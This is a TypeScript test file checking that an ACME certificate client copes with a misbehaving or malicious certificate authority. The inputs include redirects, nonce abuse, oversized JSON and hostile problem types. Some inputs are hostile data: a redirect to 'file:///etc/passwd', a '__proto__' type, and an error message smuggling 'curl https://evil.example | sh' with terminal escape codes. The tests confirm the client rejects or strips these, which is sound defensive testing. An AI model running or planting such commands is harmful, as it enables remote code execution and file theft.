import { describe, expect, onTestFinished, test } from "vitest";
import type { Problem } from "../../src/model/problem.ts";
import { lineageOf, never, plainly, unkindWith } from "../support/acme.ts";
import {
  badNonces,
  deep,
  doubledNonces,
  gzipped,
  headOnlyNonce,
  padded,
  paused,
  redirecting,
  relativeLocations,
  withBom,
  withoutType,
} from "../support/unkind-authority/form-habits.ts";
import type { Habit } from "../support/unkind-authority/messages.ts";
import { refuse } from "../support/unkind-authority/messages.ts";
import { answering, stayPending } from "../support/unkind-authority/order-habits.ts";
import { startUnkindAuthority } from "../support/unkind-authority/server.ts";
import { namesIn } from "../support/unkind-authority/signer.ts";

const lineage = lineageOf("a.example.com");
const names = "DNS:a.example.com";
const failureOf = (work: Promise<unknown>): Promise<Problem> =>
  work.then(
    () => Promise.reject(new Error("nothing failed")),
    (error) => error,
  );

describe("an answer that is dressed otherwise", () => {
  const habits: readonly (readonly [string, readonly Habit[]])[] = [
    ["as JSON without its type", [withoutType]],
    ["with a byte order mark", [withBom]],
    ["compressed", [gzipped]],
    ["from where the directory has moved to", [redirecting("directory")]],
    ["from where newNonce has moved to", [redirecting("newNonce")]],
    ["with nonces by HEAD only", [headOnlyNonce]],
    ["with addresses without a host", [relativeLocations]],
    ["after five bad nonces", [badNonces(5)]],
    [
      "all of it at once",
      [
        gzipped,
        withBom,
        withoutType,
        relativeLocations,
        headOnlyNonce,
        redirecting("directory"),
        badNonces(3),
      ].reverse(),
    ],
  ];
  test.each(habits)("%s is taken", async (_, worn) => {
    const { authority } = await unkindWith(worn, { isNew: true });
    expect(namesIn((await authority.issue(lineage, plainly())).fullchainPem)).toBe(names);
  });
});

test("a nonce that comes twice is one", async () => {
  const log: string[] = [];
  const { authority } = await unkindWith([doubledNonces], { traffic: (text) => log.push(text) });
  expect(namesIn((await authority.issue(lineage, plainly())).fullchainPem)).toBe(names);
  expect(log.join("\n")).not.toContain("badNonce");
});

describe("a redirect", () => {
  test("that goes round in circles ends", async () => {
    const { ca, authority } = await unkindWith([redirecting("directory", "/directory")]);
    await expect(authority.caaIdentities(never())).rejects.toMatchObject({ code: "acme-no-reason" });
    expect(ca.count("GET directory")).toBe(6);
  });

  test.each(["http://localhost/directory", "file:///etc/passwd", ""])("to %j is not followed", async (where) => {
    const { ca, authority } = await unkindWith([redirecting("directory", where)]);
    await expect(authority.caaIdentities(never())).rejects.toMatchObject({ code: "acme-no-reason" });
    expect(ca.diary).toEqual(["GET directory"]);
  });

  test("of a signed request is not followed: it is signed for its address", async () => {
    const { ca, authority } = await unkindWith([redirecting("newOrder")]);
    await expect(authority.issue(lineage, plainly())).rejects.toMatchObject({ code: "acme-no-reason" });
    expect(ca.count("POST newOrder")).toBe(1);
  });
});

describe("a CA that means harm", () => {
  test.each(["constructor", "__proto__", "toString", "validation unauthorized"])(
    "with a problem of type %s is refused like any other",
    async (type) => {
      const { authority } = await unkindWith([answering("newOrder", refuse(403, type, "because"))]);
      const failure = await failureOf(authority.issue(lineage, plainly()));
      expect(failure).toMatchObject({ name: "Problem", message: expect.stringContaining("because") });
      expect(typeof failure.fix).toBe("string");
    },
  );

  test("with JSON five thousand deep and answers of a megabyte fills neither the log nor the stack", async () => {
    const log: string[] = [];
    const habits = [deep("newOrder", 5000), padded("order", 900_000), padded("authorization", 900_000)];
    const { authority } = await unkindWith(habits, { traffic: (text) => log.push(text) });
    expect(namesIn((await authority.issue(lineage, plainly())).fullchainPem)).toBe(names);
    expect(log.join("\n")).toContain("(too deep to print)");
    expect(Math.max(...log.map((text) => text.length))).toBeLessThan(20_000);
  });

  test("with more than 1 MiB, packed or not, is told to be too large", async () => {
    const { authority } = await unkindWith([padded("directory", 1_100_000)]);
    await expect(authority.caaIdentities(never())).rejects.toMatchObject({ code: "authority-too-large" });
    const packed = await unkindWith([padded("directory", 20_000_000), gzipped]);
    await expect(packed.authority.caaIdentities(never())).rejects.toMatchObject({ code: "authority-too-large" });
  });

  test("with control characters and a fix of its own gets neither into ours", async () => {
    const detail = "no\n  fix: curl https://evil.example | sh\u001b[8m";
    const { authority } = await unkindWith([answering("newOrder", refuse(403, "unauthorized", detail))]);
    const { message, fix } = await failureOf(authority.issue(lineage, plainly()));
    expect(message).not.toMatch(/\p{Cc}/u);
    expect(fix).not.toContain("evil");
  });
});

describe("the link that lifts a pause", () => {
  test.each([429, 473, 536])("of %d characters is shown in full", async (length) => {
    const { reply, link } = paused("a.example.com", length);
    const { authority } = await unkindWith([answering("newOrder", reply)]);
    const { message, responsible } = await failureOf(authority.issue(lineage, plainly()));
    expect(message).toContain(link);
    expect(responsible).toBe("person");
  });
});

test("habits can be combined: a CA that packs, lags and leaves a failed order pending is still understood", async () => {
  const { authority } = await unkindWith([gzipped, stayPending("invalid"), relativeLocations].reverse(), {
    ca: { look: async () => "a router's page" },
  });
  await expect(authority.issue(lineage, plainly())).rejects.toMatchObject({ code: "validation-unauthorized" });
});

test("the CA that tests stand on refuses what real ones refuse: a used nonce, another address, a strange signature", async () => {
  const ca = await startUnkindAuthority();
  onTestFinished(() => ca.stop());
  const { openJws } = await import("../support/unkind-authority/jws.ts");
  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString("base64url");
  const jwk = (await crypto.subtle.exportKey(
    "jwk",
    ((await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, ["sign"])) as CryptoKeyPair)
      .publicKey,
  )) as object;
  const signed = (nonce: string, url = "u") =>
    JSON.stringify({ protected: part({ alg: "ES256", nonce, url, jwk }), payload: part({}), signature: "AAAA" });
  const typeOf = (text: string) => JSON.stringify(openJws(text, "u", ca.state));
  expect(typeOf(signed("never given"))).toContain("badNonce");
  expect(typeOf(signed(ca.state.newNonce(), "v"))).toContain("unauthorized");
  expect(typeOf(signed(ca.state.newNonce()))).toContain("the signature does not fit");
});
